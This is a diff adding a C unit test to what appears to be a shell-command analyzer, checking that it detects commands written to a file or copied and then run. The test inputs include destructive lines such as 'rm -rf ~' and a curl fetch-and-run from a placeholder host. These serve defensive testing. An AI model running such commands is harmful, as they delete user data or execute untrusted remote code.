@@ -279,6 +279,29 @@ static void test_chdir_options(void **state)
 	shell_analysis_free(&a);
 }
 
+/* A file written (or a program copied) and run in the same line. */
+static void test_written_then_run(void **state)
+{
+	(void)state;
+	shell_analysis a = analyze_ok("echo 'rm -rf ~' > x.sh && sh x.sh; printf 'id' > ./y; bash y");
+	assert_cmd(a, "rm -rf ~", "a file written earlier");
+	assert_cmd(a, "id", "a file written earlier");
+	shell_analysis_free(&a);
+	a = analyze_ok("cp /bin/rm ./r && ./r -rf ~");
+	assert_cmd(a, "/bin/rm -rf ~", "a copy written earlier");
+	shell_analysis_free(&a);
+	a = analyze_ok("curl -o x.sh https://e.example/x; chmod +x x.sh; ./x.sh");
+	assert_true(get_cmd(&a, "./x.sh")->unresolved);
+	shell_analysis_free(&a);
+	/* near misses: run before it is written, other files, only read */
+	a = analyze_ok("./x.sh; echo 'rm -rf ~' > x.sh; cat x.sh; sh other.sh");
+	assert_false(a.unresolved);
+	assert_no_cmd(a, "rm -rf ~");
+	shell_analysis_free(&a);
+	a = analyze_ok("> ~/.profile; echo > y");
+	shell_analysis_free(&a);
+}
+
 static void test_awk_tar(void **state)
 {
 	(void)state;
@@ -396,6 +419,7 @@ int main(void)
 		cmocka_unit_test(test_find),               cmocka_unit_test(test_shells),
 		cmocka_unit_test(test_eval_source),        cmocka_unit_test(test_git),
 		cmocka_unit_test(test_runners),            cmocka_unit_test(test_chdir_options),
+		cmocka_unit_test(test_written_then_run),
 		cmocka_unit_test(test_awk_tar),            cmocka_unit_test(test_interpreters),
 		cmocka_unit_test(test_argv_api),
 	};
